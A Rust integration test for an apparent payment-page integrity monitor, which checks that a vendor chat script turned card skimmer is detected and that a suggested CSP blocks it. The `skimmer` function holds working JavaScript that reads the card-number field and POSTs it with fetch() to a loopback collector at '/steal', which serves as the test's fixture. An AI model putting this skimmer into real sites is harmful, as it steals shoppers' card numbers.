//! Payment-page integrity end to end, in a real headless Chromium: a shop's
//! payment page with a vendor's chat script, served on loopback by the
//! test. The first check records the inventory; benign changes (a script
//! allowed to change, a listed analytics beacon) raise nothing; the chat
//! script turned skimmer is named with its change and its new destination;
//! the suggested CSP, once served, makes the browser report the skimmer's
//! request to `vakt serve`, which also runs the checks on schedule.

mod support;

use serde_json::Value;
use std::collections::HashMap;
use std::io::{BufRead, BufReader, Read, Write};
use std::net::{TcpListener, TcpStream};
use std::path::Path;
use std::process::Output;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};
use support::{vakt, WAIT};

const CHROMIUM: &str = "/usr/bin/chromium";

/// What the site serves now, by port and path: status, content type, body,
/// extra headers.
type Routes = HashMap<(u16, String), (u16, &'static str, String, Vec<(String, String)>)>;

/// Loopback origins serving `routes`, each listener polled until dropped.
struct Site {
    ports: Vec<u16>,
    routes: Arc<Mutex<Routes>>,
    stop: Arc<AtomicBool>,
    threads: Vec<std::thread::JoinHandle<()>>,
}

impl Site {
    fn start(origins: usize) -> Site {
        let routes: Arc<Mutex<Routes>> = Arc::default();
        let stop = Arc::new(AtomicBool::new(false));
        let mut ports = Vec::new();
        let mut threads = Vec::new();
        for _ in 0..origins {
            let listener = TcpListener::bind("127.0.0.1:0").unwrap();
            listener.set_nonblocking(true).unwrap();
            let port = listener.local_addr().unwrap().port();
            ports.push(port);
            let (routes, stop) = (routes.clone(), stop.clone());
            threads.push(std::thread::spawn(move || {
                while !stop.load(Ordering::Relaxed) {
                    match listener.accept() {
                        Ok((conn, _)) => {
                            let routes = routes.clone();
                            std::thread::spawn(move || answer(conn, port, &routes));
                        }
                        Err(_) => std::thread::sleep(Duration::from_millis(5)),
                    }
                }
            }));
        }
        Site {
            ports,
            routes,
            stop,
            threads,
        }
    }

    fn origin(&self, i: usize) -> String {
        format!("http://127.0.0.1:{}", self.ports[i])
    }

    fn set(&self, i: usize, path: &str, kind: &'static str, body: &str, headers: &[(&str, &str)]) {
        let headers = headers
            .iter()
            .map(|(k, v)| (k.to_string(), v.to_string()))
            .collect();
        self.routes.lock().unwrap().insert(
            (self.ports[i], path.to_string()),
            (200, kind, body.to_string(), headers),
        );
    }
}

impl Drop for Site {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        for t in self.threads.drain(..) {
            let _ = t.join();
        }
    }
}

/// One request, HTTP/1.1 with `Connection: close`; the body is read and
/// dropped (the collector only has to answer).
fn answer(mut conn: TcpStream, port: u16, routes: &Mutex<Routes>) {
    let _ = conn.set_nonblocking(false);
    let _ = conn.set_read_timeout(Some(Duration::from_secs(5)));
    let mut reader = BufReader::new(conn.try_clone().unwrap());
    let mut line = String::new();
    if reader.read_line(&mut line).is_err() {
        return;
    }
    let path = line.split_whitespace().nth(1).unwrap_or("/").to_string();
    let path = path.split('?').next().unwrap_or("/").to_string();
    let mut length = 0usize;
    loop {
        let mut h = String::new();
        if reader.read_line(&mut h).is_err() || h.trim().is_empty() {
            break;
        }
        if let Some(v) = h.to_ascii_lowercase().strip_prefix("content-length:") {
            length = v.trim().parse().unwrap_or(0);
        }
    }
    let mut body = vec![0; length.min(1 << 20)];
    let _ = reader.read_exact(&mut body);
    let found = routes.lock().unwrap().get(&(port, path)).cloned();
    let (status, kind, text, headers) =
        found.unwrap_or((204, "text/plain", String::new(), Vec::new()));
    let mut head = format!(
        "HTTP/1.1 {status} X\r\nContent-Type: {kind}\r\nContent-Length: {}\r\nAccess-Control-Allow-Origin: *\r\nCache-Control: no-store\r\nConnection: close\r\n",
        text.len()
    );
    for (k, v) in headers {
        head.push_str(&format!("{k}: {v}\r\n"));
    }
    head.push_str("\r\n");
    let _ = conn.write_all(head.as_bytes());
    let _ = conn.write_all(text.as_bytes());
}

const PAY: &str = r#"<!doctype html><html><head><title>Pay</title>
<script src="/static/app.js"></script>
<script src="CHAT/chat.js"></script>
<script>window.shopReady = true;</script>
</head><body><form id="pay" action="/pay" method="post">
<input name="cardholder" autocomplete="cc-name">
<input name="cardnumber" autocomplete="cc-number">
<input name="email" type="email">
<button>Pay</button></form></body></html>"#;

const CHAT: &str = "document.addEventListener('DOMContentLoaded', function () { var c = document.createElement('div'); c.id = 'chat'; c.textContent = 'Chat with us'; document.body.appendChild(c); });";

fn skimmer(collector: &str) -> String {
    format!("document.addEventListener('DOMContentLoaded', function () {{ var c = document.createElement('div'); c.id = 'chat'; c.textContent = 'Chat with us'; document.body.appendChild(c); var f = document.querySelector('[name=cardnumber]'); f.addEventListener('change', function () {{ fetch('{collector}/steal', {{ method: 'POST', mode: 'no-cors', body: f.value }}); }}); }});")
}

fn app(version: u32, analytics: &str) -> String {
    format!("/* shop bundle v{version} */ window.addEventListener('load', function () {{ navigator.sendBeacon('{analytics}/collect', 'page_view'); }});")
}

/// `vakt ARGS --data DATA`, its browsers' profiles beside DATA (so a test
/// can look for what its own checks left running).
fn run(args: &[&str], data: &Path) -> Output {
    let out = vakt()
        .args(args)
        .arg("--data")
        .arg(data)
        .env("TMPDIR", data.parent().unwrap())
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "vakt {args:?} failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    out
}

fn alerts(out: &Output) -> Vec<Value> {
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

fn findings(alerts: &[Value]) -> Vec<String> {
    let mut f: Vec<String> = alerts
        .iter()
        .map(|a| a["evidence"]["finding"].as_str().unwrap_or("?").to_string())
        .collect();
    f.sort();
    f
}

/// No Chromium of a check under `tmp` is left once the check returned.
fn no_browser_left(tmp: &Path) {
    let mark = tmp.to_string_lossy().into_owned();
    for p in std::fs::read_dir("/proc").unwrap().flatten() {
        let cmdline = std::fs::read(p.path().join("cmdline")).unwrap_or_default();
        let text = String::from_utf8_lossy(&cmdline);
        assert!(
            !(text.contains("remote-debugging-pipe") && text.contains(&mark)),
            "a page check's browser is still running: {text}"
        );
    }
}

#[test]
fn a_vendor_script_turned_skimmer_is_caught_and_benign_changes_are_not() {
    if !Path::new(CHROMIUM).exists() {
        eprintln!(
            "skipped: needs {CHROMIUM} (apt-get install chromium; ./scripts/test installs it)"
        );
        return;
    }
    let tmp = tempfile::tempdir().unwrap();
    let data = tmp.path().join("data");
    // 0: the shop, 1: the chat vendor, 2: analytics, 3: the skimmer's collector.
    let site = Site::start(4);
    let (shop, vendor, analytics, collector) = (
        site.origin(0),
        site.origin(1),
        site.origin(2),
        site.origin(3),
    );
    let page = format!("{shop}/pay");
    site.set(0, "/pay", "text/html", &PAY.replace("CHAT", &vendor), &[]);
    site.set(
        0,
        "/static/app.js",
        "text/javascript",
        &app(1, &analytics),
        &[],
    );
    site.set(1, "/chat.js", "text/javascript", CHAT, &[]);
    let directory = tmp.path().join("directory.toml");
    std::fs::write(
        &directory,
        format!(
            "[[page]]\nurl = \"{page}\"\nevery = \"2s\"\nfill = true\n\n[[page.script]]\nurl = \"{shop}/static/app.js\"\njustification = \"the shop's own bundle, deployed weekly\"\nmay_change = true\n"
        ),
    )
    .unwrap();
    let check = |data: &Path| {
        run(
            &["pages", "check", "--directory", directory.to_str().unwrap()],
            data,
        )
    };

    // The first check is the baseline: recorded, nothing raised.
    let started = Instant::now();
    let first = check(&data);
    let took = started.elapsed();
    let stderr = String::from_utf8_lossy(&first.stderr);
    assert!(
        stderr.contains("inventory recorded (first check)"),
        "{stderr}"
    );
    assert_eq!(alerts(&first), Vec::<Value>::new(), "{stderr}");
    eprintln!("first check, process start to exit: {took:?}; {stderr}");
    no_browser_left(tmp.path());

    // Benign: the bundle allowed to change changes; the listed beacon goes on.
    site.set(
        0,
        "/static/app.js",
        "text/javascript",
        &app(2, &analytics),
        &[],
    );
    let benign = check(&data);
    assert_eq!(
        alerts(&benign),
        Vec::<Value>::new(),
        "{}",
        String::from_utf8_lossy(&benign.stderr)
    );

    // The vendor's chat script now copies the card number to another origin.
    site.set(1, "/chat.js", "text/javascript", &skimmer(&collector), &[]);
    let caught = check(&data);
    let raised = alerts(&caught);
    assert_eq!(
        findings(&raised),
        ["canary_sent", "new_destination", "script_changed"],
        "{raised:#?}"
    );
    for a in &raised {
        assert_eq!(a["rule.id"], "page_integrity");
        assert_eq!(
            a["host.name"], "127.0.0.1",
            "the vendor script is responsible: {a}"
        );
    }
    let changed = raised
        .iter()
        .find(|a| a["evidence"]["finding"] == "script_changed")
        .unwrap();
    assert_eq!(changed["evidence"]["script"], format!("{vendor}/chat.js"));
    let change = &changed["evidence"]["change"];
    assert_eq!(change["urls_added"], serde_json::json!([collector]));
    assert!(
        change["excerpt"].as_str().unwrap().contains("cardnumber"),
        "{change}"
    );
    assert_ne!(
        changed["evidence"]["observed"]["sha384"],
        changed["evidence"]["baseline"]["sha384"]
    );
    let dest = raised
        .iter()
        .find(|a| a["evidence"]["finding"] == "new_destination")
        .unwrap();
    assert_eq!(dest["evidence"]["destination"], collector);
    assert_eq!(
        dest["evidence"]["observed"]["initiator"],
        format!("{vendor}/chat.js")
    );
    let canary = raised
        .iter()
        .find(|a| a["evidence"]["finding"] == "canary_sent")
        .unwrap();
    assert_eq!(canary["severity"], "critical");

    // Recorded in the ledger like any alert; the inventory says what is justified.
    let incidents = run(&["incident", "list"], &data);
    assert!(
        String::from_utf8_lossy(&incidents.stdout).contains("page_integrity"),
        "{}",
        String::from_utf8_lossy(&incidents.stdout)
    );
    let md = run(
        &[
            "pages",
            "inventory",
            "--format",
            "markdown",
            "--directory",
            directory.to_str().unwrap(),
        ],
        &data,
    );
    let md = String::from_utf8_lossy(&md.stdout);
    assert!(
        md.contains("the shop's own bundle, deployed weekly"),
        "{md}"
    );
    assert!(md.contains(&format!("{vendor}/chat.js")), "{md}");
    assert!(md.contains("**not justified**"), "{md}");
    assert!(md.contains(&collector), "{md}");
    let csv = run(&["pages", "inventory"], &data);
    let csv = String::from_utf8_lossy(&csv.stdout);
    assert_eq!(
        csv.lines().filter(|l| l.contains("/chat.js")).count(),
        2,
        "both versions of the chat script: {csv}"
    );
    let verify = run(&["ledger", "verify"], &data);
    assert!(verify.status.success());

    // `vakt serve` checks on schedule and takes the suggested CSP's reports.
    let served = tmp.path().join("served");
    run(&["init"], &served);
    let token = String::from_utf8_lossy(
        &run(
            &["token", "create", "--name", "t", "--role", "read"],
            &served,
        )
        .stdout,
    )
    .trim()
    .to_string();
    site.set(1, "/chat.js", "text/javascript", CHAT, &[]);
    let mut serve = vakt();
    serve
        .args([
            "serve",
            "--listen",
            "127.0.0.1:0",
            "--page-tick",
            "1s",
            "--data",
        ])
        .arg(&served)
        .arg("--directory")
        .arg(&directory)
        .env("RUST_LOG", "vakt_server=info")
        .env("TMPDIR", tmp.path())
        .stdout(std::process::Stdio::null());
    let (server, base) = support::start(&mut serve);
    let csp = run(
        &[
            "pages",
            "csp",
            "--page",
            &page,
            "--report-uri",
            &format!("{base}/v1/csp-report"),
        ],
        &data,
    );
    let csp = String::from_utf8_lossy(&csp.stdout);
    let policy = csp
        .lines()
        .find_map(|l| l.strip_prefix("Content-Security-Policy: "))
        .unwrap()
        .to_string();
    assert!(
        policy.contains(&format!("connect-src 'self' {analytics} {collector};")),
        "the policy allows what the last check saw: {policy}"
    );
    let scripts: Vec<&str> = policy
        .split(';')
        .find_map(|d| d.trim().strip_prefix("script-src "))
        .unwrap()
        .split(' ')
        .collect();
    assert_eq!(
        scripts.len(),
        3,
        "self, the vendor, the inline script's hash: {policy}"
    );
    assert!(scripts.contains(&vendor.as_str()), "{policy}");
    assert!(
        scripts.iter().any(|s| s.starts_with("'sha384-")),
        "{policy}"
    );
    // Serve it without the collector, as a reviewer would after reading
    // the inventory.
    let policy = policy.replace(&format!(" {collector}"), "");
    let agent: ureq::Agent = ureq::Agent::config_builder()
        .timeout_global(Some(WAIT))
        .http_status_as_error(false)
        .build()
        .into();
    let page_alerts = |finding: &str| -> usize {
        let text = agent
            .get(&format!("{base}/v1/alerts?rule=page_integrity"))
            .header("Authorization", &format!("Bearer {token}"))
            .call()
            .unwrap()
            .body_mut()
            .read_to_string()
            .unwrap();
        let list: Value = serde_json::from_str(&text).unwrap();
        list.as_array()
            .unwrap_or_else(|| panic!("{text}"))
            .iter()
            .filter(|a| a["evidence"]["finding"] == finding)
            .count()
    };
    // Serve's first scheduled check is its baseline (the benign chat script).
    let deadline = Instant::now() + Duration::from_secs(60);
    while String::from_utf8_lossy(&run(&["pages", "inventory"], &served).stdout)
        .lines()
        .count()
        < 2
    {
        assert!(Instant::now() < deadline, "serve made no check within 60 s");
        std::thread::sleep(Duration::from_millis(250));
    }
    // Then the skimmer comes back, under the suggested policy: serve's
    // next check names it, and the browser reports the blocked request.
    site.set(1, "/chat.js", "text/javascript", &skimmer(&collector), &[]);
    site.set(
        0,
        "/pay",
        "text/html",
        &PAY.replace("CHAT", &vendor),
        &[("Content-Security-Policy", &policy)],
    );
    let journal = served.join("serve-journal.jsonl");
    loop {
        let reported = std::fs::read_to_string(&journal)
            .unwrap_or_default()
            .lines()
            .any(|l| l.contains("csp.directive") && l.contains(&format!("{collector}/steal")));
        let changed = page_alerts("script_changed");
        if reported && changed == 1 {
            break;
        }
        assert!(
            Instant::now() < deadline,
            "no CSP report or scheduled alert within 60 s ({reported}, {changed}); journal: {}; serve: {}",
            std::fs::read_to_string(&journal).unwrap_or_default(),
            server.stderr()
        );
        std::thread::sleep(Duration::from_millis(250));
    }
    no_browser_left(tmp.path());
}

#[test]
fn pages_that_fail_time_out_or_move_raise_alerts_of_their_own() {
    if !Path::new(CHROMIUM).exists() {
        eprintln!("skipped: needs {CHROMIUM}");
        return;
    }
    let tmp = tempfile::tempdir().unwrap();
    let data = tmp.path().join("data");
    let site = Site::start(2);
    let (shop, other) = (site.origin(0), site.origin(1));
    site.routes.lock().unwrap().insert(
        (site.ports[0], "/broken".into()),
        (500, "text/html", "<p>oops</p>".into(), Vec::new()),
    );
    site.routes.lock().unwrap().insert(
        (site.ports[0], "/moved".into()),
        (
            302,
            "text/html",
            String::new(),
            vec![("Location".into(), format!("{other}/pay"))],
        ),
    );
    site.set(1, "/pay", "text/html", "<p>elsewhere</p>", &[]);
    let closed = support::free_port();
    let directory = tmp.path().join("directory.toml");
    std::fs::write(
        &directory,
        format!(
            "[[page]]\nurl = \"{shop}/broken\"\n\n[[page]]\nurl = \"{shop}/moved\"\n\n[[page]]\nurl = \"http://127.0.0.1:{closed}/pay\"\ntimeout = \"5s\"\n"
        ),
    )
    .unwrap();
    let out = run(
        &["pages", "check", "--directory", directory.to_str().unwrap()],
        &data,
    );
    let raised = alerts(&out);
    let mut failures: Vec<String> = raised
        .iter()
        .map(|a| {
            assert_eq!(a["rule.id"], "page_check_failed", "{a}");
            a["evidence"]["failure"].as_str().unwrap().to_string()
        })
        .collect();
    failures.sort();
    assert_eq!(failures, ["moved", "status", "unreachable"], "{raised:#?}");
    let moved = raised
        .iter()
        .find(|a| a["evidence"]["failure"] == "moved")
        .unwrap();
    assert_eq!(
        moved["evidence"]["observed"]["final_url"],
        format!("{other}/pay")
    );
    let status = raised
        .iter()
        .find(|a| a["evidence"]["failure"] == "status")
        .unwrap();
    assert!(
        status["message"].as_str().unwrap().contains("HTTP 500"),
        "{status}"
    );
    // Nothing of a failed check went into the inventory.
    let csv = run(&["pages", "inventory"], &data);
    assert_eq!(String::from_utf8_lossy(&csv.stdout).lines().count(), 1);
}
